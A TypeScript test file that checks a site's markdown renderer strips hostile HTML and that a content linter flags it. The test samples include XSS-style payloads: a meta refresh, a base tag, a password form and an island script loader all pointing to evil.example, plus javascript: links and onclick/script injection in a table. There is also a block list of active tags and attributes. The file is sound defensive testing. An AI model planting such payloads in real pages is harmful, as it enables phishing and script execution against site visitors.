import { globSync, readFileSync } from 'node:fs'
import { JSDOM } from 'jsdom'
import { expect, test } from 'vitest'
import { maliciousPosts } from '#tests/e2e/support/malicious-posts.ts'
import { htmlOf, ownHtmlOf, plainHtmlOf } from '#texts/content/markdown.ts'
import { harmfulProblems } from '#texts/server/content/harmful.ts'

const others = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<astro-island component-url="https://evil.example/x.js" client="load"></astro-island>',
  '[글](javascript:__ran())',
  '![글](javascript:__ran())',
  '<javascript:__ran()>',
  '| <script>__ran()</script> |\n|---|\n| <b onclick="__ran()" data-label="\' onclick=\'__ran()">가</b> |',
]

const active = new Set(
  'script style meta base link form input button iframe object embed svg math template noscript plaintext astro-island'.split(
    ' ',
  ),
)

const parser = new new JSDOM().window.DOMParser()

const harmIn = (html: string): string[] => {
  const shown = parser.parseFromString(`<main>${html}</main>`, 'text/html')
  return [...(shown.querySelector('main')?.getElementsByTagName('*') ?? [])].flatMap((element) => [
    ...(active.has(element.localName) ? [element.tagName] : []),
    ...[...element.attributes].flatMap(({ name, value }) =>
      /^(?:on|style$|srcdoc|formaction)/.test(name) ||
      (/^(?:href|src|xlink:href)$/.test(name) &&
        !/^(?:https?:|mailto:|tel:|[/#?]|[^:]*$)/.test(value))
        ? [`${name}=${value}`]
        : [],
    ),
  ])
}

test.for([...maliciousPosts, ...others])('in the office’s texts nothing is left of %s', (text) => {
  for (const markdown of [text, `가 ${text} 나`, `> - ${text}`, `가\n\n${text}\n\n나`]) {
    expect(harmIn(htmlOf(markdown))).toEqual([])
    expect(harmIn(plainHtmlOf(markdown))).toEqual([])
  }
})

test.for(others)('%s is named', (body) => {
  expect(
    harmfulProblems({ name: 'a.md', data: {}, lineOf: () => 1, body, bodyOffset: 4 }),
  ).not.toEqual([])
})

test.for(
  globSync('{content,tests/support/content}/**/*.md').filter((file) => !file.endsWith('README.md')),
)('nothing of %s is lost', (file) => {
  const [, body = ''] = /^---\n.*?\n---\n(.*)$/s.exec(readFileSync(file, 'utf8')) ?? []
  expect(body).not.toBe('')
  expect(htmlOf(body)).toBe(ownHtmlOf(body))
})
